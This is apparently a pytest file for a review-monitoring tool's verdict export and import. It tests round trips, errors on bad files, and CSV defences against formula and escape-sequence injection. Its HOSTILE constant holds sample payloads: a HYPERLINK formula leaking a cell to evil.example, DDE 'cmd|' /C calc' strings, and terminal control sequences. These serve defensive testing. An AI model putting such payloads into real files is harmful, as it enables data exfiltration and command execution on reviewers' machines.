"""``relmon verdicts export|import``: a round trip restores the same records and the
same thresholds (a property over random verdict sets, both formats); bad files are
clear errors; a JSONL export is accepted by ``relmon certify``; a CSV export read by
Python's csv reader holds no cell a spreadsheet would run as a formula and no control
character a terminal would run, and still imports back exactly."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.sqlite.store import SqliteStore
from monitor.app.cli import main
from monitor.app.spreadsheet import cell_from_csv, cell_to_csv
from monitor.core.review import ReviewItem, Verdict, verdict_score
from monitor.core.window import CalibrationWindow
from monitor.engine.ports import CalibrationRecord
from monitor.testing import ManualClock

_answer = st.text(alphabet=st.characters(blacklist_categories=["Cs"]), min_size=1, max_size=12)


@st.composite
def reviewed(draw: st.DrawFn, index: int) -> tuple[ReviewItem, Verdict]:
    answers = draw(st.lists(_answer, min_size=1, max_size=4, unique=True))
    counts = sorted(
        draw(st.lists(st.integers(1, 5), min_size=len(answers), max_size=len(answers))),
        reverse=True,
    )
    item = ReviewItem(
        item_id=f"task{index % 2}:{draw(st.text(min_size=1, max_size=8))}\n{index}",
        model=draw(st.sampled_from(["m1", "m,2"])),
        task=f"task{index % 2}",
        query=draw(st.text(max_size=30)),
        candidates=tuple(zip(answers, counts, strict=True)),
        k=sum(counts),
        inclusion_probability=draw(st.floats(0.01, 1.0)),
        sampled_at=draw(st.floats(1.7e9, 1.8e9)),
    )
    if draw(st.booleans()):
        ranks = draw(st.sets(st.integers(1, len(answers)), min_size=1))
        verdict = Verdict(item.item_id, tuple(sorted(ranks)), reviewer=draw(st.text(max_size=10)))
    else:
        correct = draw(st.none() | _answer)
        verdict = Verdict(item.item_id, none_of_these=True, correct_answer=correct, reviewer="r")
    return item, verdict


async def _fill(path: Path, rows: list[tuple[ReviewItem, Verdict]]) -> None:
    clock = ManualClock(1.8e9)
    store = SqliteStore(path, clock=clock)
    try:
        for n, (item, verdict) in enumerate(rows):
            await store.submit(item)
            score = verdict_score(item, verdict)
            record = CalibrationRecord(
                item.model,
                item.task,
                item.item_id,
                score,
                item.inclusion_probability,
                item.sampled_at,
                aci_miss=(None, True, False)[n % 3],  # ACI steps survive the round trip
            )
            await store.save_record(record, verdict)
            clock.advance(0.5)
    finally:
        await store.aclose()


async def _state(path: Path) -> tuple[list[CalibrationRecord], list[Verdict | None]]:
    store = SqliteStore(path)
    try:
        records = list(await store.load_records())
        verdicts = [await store.get_verdict(r.item_id) for r in records]
        return records, verdicts
    finally:
        await store.aclose()


def _snapshots(records: list[CalibrationRecord]) -> dict[tuple[str, str], object]:
    out: dict[tuple[str, str], CalibrationWindow] = {}
    for r in records:
        window = out.setdefault(
            (r.model, r.task),
            CalibrationWindow(alphas=(0.05, 0.1, 0.2), half_life_s=3600, max_items=50),
        )
        window.add(r.item_id, r.score, r.inclusion_probability, r.sampled_at)
    return {key: w.snapshot(1.8e9) for key, w in out.items()}


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    rows=st.integers(0, 12).flatmap(lambda n: st.tuples(*(reviewed(i) for i in range(n)))),
    fmt=st.sampled_from(["jsonl", "csv"]),
)
def test_export_import_round_trip_restores_records_and_thresholds(
    rows: tuple[tuple[ReviewItem, Verdict], ...], fmt: str
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        source, target = Path(tmp) / "a", Path(tmp) / "b"
        asyncio.run(_fill(source / "relmon.sqlite3", list(rows)))
        out = Path(tmp) / f"verdicts.{fmt}"
        assert (
            main(
                ["verdicts", "export", "--state-dir", str(source), "--format", fmt, "-o", str(out)]
            )
            == 0
        )
        assert main(["verdicts", "import", "--state-dir", str(target), str(out)]) == 0
        before, after = (
            asyncio.run(_state(source / "relmon.sqlite3")),
            asyncio.run(_state(target / "relmon.sqlite3")),
        )
        assert after == before  # same records (scores, weights, times) and verdicts
        assert len(before[0]) == len(rows)
        assert _snapshots(after[0]) == _snapshots(before[0])
        # Importing again changes nothing: each item keeps its one verdict.
        assert main(["verdicts", "import", "--state-dir", str(target), str(out)]) == 0
        assert asyncio.run(_state(target / "relmon.sqlite3")) == before


def test_export_lines_carry_the_reviewer_and_are_certify_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = []
    for i in range(12):
        item = ReviewItem(
            item_id=f"qa:{i}",
            model="m1",
            task="qa",
            query=f"What is {i}+1?",
            candidates=((str(i + 1), 6), (str(i), 3), ("-1", 1)),
            k=10,
            inclusion_probability=0.5,
            sampled_at=1.7e9 + i,
        )
        verdict = (
            Verdict(item.item_id, (1,), reviewer="ann")
            if i % 4
            else Verdict(item.item_id, none_of_these=True, correct_answer="99", reviewer="bob")
        )
        rows.append((item, verdict))
    asyncio.run(_fill(tmp_path / "s" / "relmon.sqlite3", rows))
    out = tmp_path / "v.jsonl"
    assert main(["verdicts", "export", "--state-dir", str(tmp_path / "s"), "-o", str(out)]) == 0
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert [d["id"] for d in lines] == [f"qa:{i}" for i in range(12)]
    first, none = lines[1], lines[0]
    assert first["reviewer"] == "ann" and first["acceptable"] == ["2"] and first["score"] == 1
    assert first["answers"] == ["2"] * 6 + ["1"] * 3 + ["-1"]
    assert none["verdict"] == {
        "accepted_ranks": [],
        "none_of_these": True,
        "correct_answer": "99",
        "reviewer": "bob",
    }
    assert none["score"] == "inf" and none["acceptable"] == ["99"]
    capsys.readouterr()
    args = ["certify", "--samples", str(out), "--labels", str(out), "--canonicalizer", "numeric"]
    assert main([*args, "--format", "json", "--alpha", "0.2"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["n"] >= 1  # certify accepted the export as samples and labels


def test_bad_import_files_are_clear_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    item = ReviewItem("qa:1", "m1", "qa", "q", (("2", 6), ("1", 4)), 10, 0.5, 1.7e9)
    asyncio.run(_fill(tmp_path / "s" / "relmon.sqlite3", [(item, Verdict("qa:1", (2,)))]))
    good = tmp_path / "v.jsonl"
    assert main(["verdicts", "export", "--state-dir", str(tmp_path / "s"), "-o", str(good)]) == 0
    line = json.loads(good.read_text())
    cases = {
        "score": {**line, "score": 1},  # rank 2 was accepted: the score is 2
        "rank": {**line, "verdict": {**line["verdict"], "accepted_ranks": [3]}},
        "inclusion_probability": {**line, "inclusion_probability": 0},
        "aci_miss": {**line, "aci_miss": "yes"},
    }
    capsys.readouterr()
    for word, bad in cases.items():
        path = tmp_path / f"bad-{word}.jsonl"
        path.write_text(json.dumps(bad) + "\n")
        assert main(["verdicts", "import", "--state-dir", str(tmp_path / "t"), str(path)]) == 2
        err = capsys.readouterr().err
        assert err.startswith(f"relmon: error: {path}:1: ") and word in err, err
    (tmp_path / "dup.jsonl").write_text(good.read_text() * 2)
    assert (
        main(
            ["verdicts", "import", "--state-dir", str(tmp_path / "t"), str(tmp_path / "dup.jsonl")]
        )
        == 2
    )
    assert ":2: duplicate id" in capsys.readouterr().err
    assert main(["verdicts", "export", "--state-dir", str(tmp_path / "nothing")]) == 2
    assert "no review store" in capsys.readouterr().err


def test_the_kafka_backend_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = tmp_path / "relmon.yaml"
    config.write_text(
        "kafka: {enabled: true}\nreview: {backend: kafka}\n"
        "tasks: [{name: qa, endpoint: {base_url: 'http://127.0.0.1:1/v1', model: m}}]\n"
    )
    assert main(["verdicts", "export", "--config", str(config)]) == 2
    assert "Kafka backend" in capsys.readouterr().err


def test_an_export_without_aci_miss_imports_as_no_aci_step(tmp_path: Path) -> None:
    """Exports written before ``aci_miss`` existed (JSONL key, CSV column) still import."""
    item = ReviewItem("qa:1", "m1", "qa", "q", (("2", 6), ("1", 4)), 10, 0.5, 1.7e9)
    source = tmp_path / "s"
    asyncio.run(_fill(source / "relmon.sqlite3", [(item, Verdict("qa:1", (2,)))]))
    for fmt in ("jsonl", "csv"):
        out = tmp_path / f"v.{fmt}"
        export = ["verdicts", "export", "--state-dir", str(source), "-o", str(out)]
        assert main([*export, "--format", fmt]) == 0
        if fmt == "jsonl":
            line = json.loads(out.read_text())
            assert line["aci_miss"] is None
            del line["aci_miss"]
            out.write_text(json.dumps(line) + "\n")
        else:
            header, row = out.read_bytes().decode().split("\r\n")[:2]
            assert header.endswith(",aci_miss") and row.endswith(",")
            out.write_text(header.removesuffix(",aci_miss") + "\r\n" + row[:-1] + "\r\n")
        target = tmp_path / f"t-{fmt}"
        assert main(["verdicts", "import", "--state-dir", str(target), str(out)]) == 0
        records, _ = asyncio.run(_state(target / "relmon.sqlite3"))
        assert [(r.item_id, r.score, r.aci_miss) for r in records] == [("qa:1", 2.0, None)]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "reviewer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "query": "+1+cmd|' /C calc'!A0\x1b]0;pwned\x07 and a NUL \x00 here",
    "correct_answer": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower().lstrip("+-") not in ("inf", "nan", "infinity")


def test_csv_export_defuses_formulas_and_escapes_controls_and_round_trips(
    tmp_path: Path,
) -> None:
    """A spreadsheet opening the CSV export runs no formula and a terminal printing it
    runs no escape sequence: a cell starting with = + - @ TAB or CR gets a leading ``'``
    (a plain number keeps its sign), C0/C1 controls but TAB, LF and CR are written as
    visible ``\\xHH``. Import turns both back, so the round trip is exact; JSONL is as
    given."""
    texts = ["-1", "+2.5", "-3e4", "\ttab first", "\rcr first", "-2+3", "'quoted", "x\\x41y"]
    rows = []
    for i, text in enumerate([HOSTILE["query"], *texts]):
        item = ReviewItem(
            item_id=f"qa:{i}" if i else "=1+1",
            model="m1",
            task="qa",
            query=text,
            candidates=(("=2+2", 6), ("-1", 3), ("\x1b[31mred", 1)),
            k=10,
            inclusion_probability=0.5,
            sampled_at=1.7e9 + i,
        )
        verdict = Verdict(
            item.item_id,
            none_of_these=True,
            correct_answer=HOSTILE["correct_answer"] if i == 0 else text,
            reviewer=HOSTILE["reviewer"] if i == 0 else text,
        )
        rows.append((item, verdict))
    source = tmp_path / "s"
    asyncio.run(_fill(source / "relmon.sqlite3", rows))
    out = tmp_path / "v.csv"
    export = ["verdicts", "export", "--state-dir", str(source), "-o", str(out)]
    assert main([*export, "--format", "csv"]) == 0

    with out.open(encoding="utf-8", newline="") as f:
        table = list(csv.DictReader(f))
    assert len(table) == len(rows)
    for row in table:
        for name, cell in row.items():
            if cell.startswith(FORMULA_STARTS):
                assert _plain_number(cell), (name, cell)
            bad = [c for c in cell if (ord(c) < 32 and c not in "\t\n\r") or 127 <= ord(c) < 160]
            assert not bad, (name, cell)
    first = table[0]
    assert first["id"] == "'=1+1"
    assert first["reviewer"] == "'" + HOSTILE["reviewer"]
    assert first["correct_answer"] == "'" + HOSTILE["correct_answer"]
    assert first["query"] == "'+1+cmd|' /C calc'!A0\\x1b]0;pwned\\x07 and a NUL \\x00 here"
    by_query = {r["query"]: r for r in table[1:]}
    # Plain numbers stay numbers; everything else that starts like a formula is text.
    assert {"-1", "+2.5", "-3e4", "'\ttab first", "'\rcr first", "'-2+3"} <= set(by_query)
    assert by_query["-1"]["reviewer"] == "-1" and by_query["'-2+3"]["reviewer"] == "'-2+3"
    assert "''quoted" in by_query and "x\\\\x41y" in by_query  # the escapes' own marks
    assert json.loads(first["candidates"])[2]["answer"] == "\x1b[31mred"

    # The import reads the same texts back: same items, same verdicts.
    target = tmp_path / "t"
    assert main(["verdicts", "import", "--state-dir", str(target), str(out)]) == 0
    before, after = (
        asyncio.run(_state(source / "relmon.sqlite3")),
        asyncio.run(_state(target / "relmon.sqlite3")),
    )
    assert after == before
    assert after[1][0] is not None and after[1][0].reviewer == HOSTILE["reviewer"]

    # JSONL is unchanged: it is data, not a spreadsheet.
    jsonl = tmp_path / "v.jsonl"
    assert main(["verdicts", "export", "--state-dir", str(source), "-o", str(jsonl)]) == 0
    line = json.loads(jsonl.read_text(encoding="utf-8").split("\n")[0])
    assert line["id"] == "=1+1" and line["query"] == HOSTILE["query"]
    assert line["reviewer"] == HOSTILE["reviewer"]


_tricky = st.text(
    alphabet=st.sampled_from(["\\", "x", "1", "b", "'", "=", "-", "+", "@", "\t", "\r", "\n"])
    | st.characters(max_codepoint=0xA0)
    | st.characters(),
    max_size=12,
)


@settings(max_examples=500, deadline=None)
@given(text=_tricky)
def test_csv_cells_round_trip_and_never_start_a_formula(text: str) -> None:
    cell = cell_to_csv(text)
    assert cell_from_csv(cell) == text
    assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-][0-9.eE+-]+", cell)
    assert not any((ord(c) < 32 and c not in "\t\n\r") or 127 <= ord(c) < 160 for c in cell)
    # Through Python's own CSV writer and reader too.
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow([cell, "x"])
    (back,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cell_from_csv(back[0]) == text
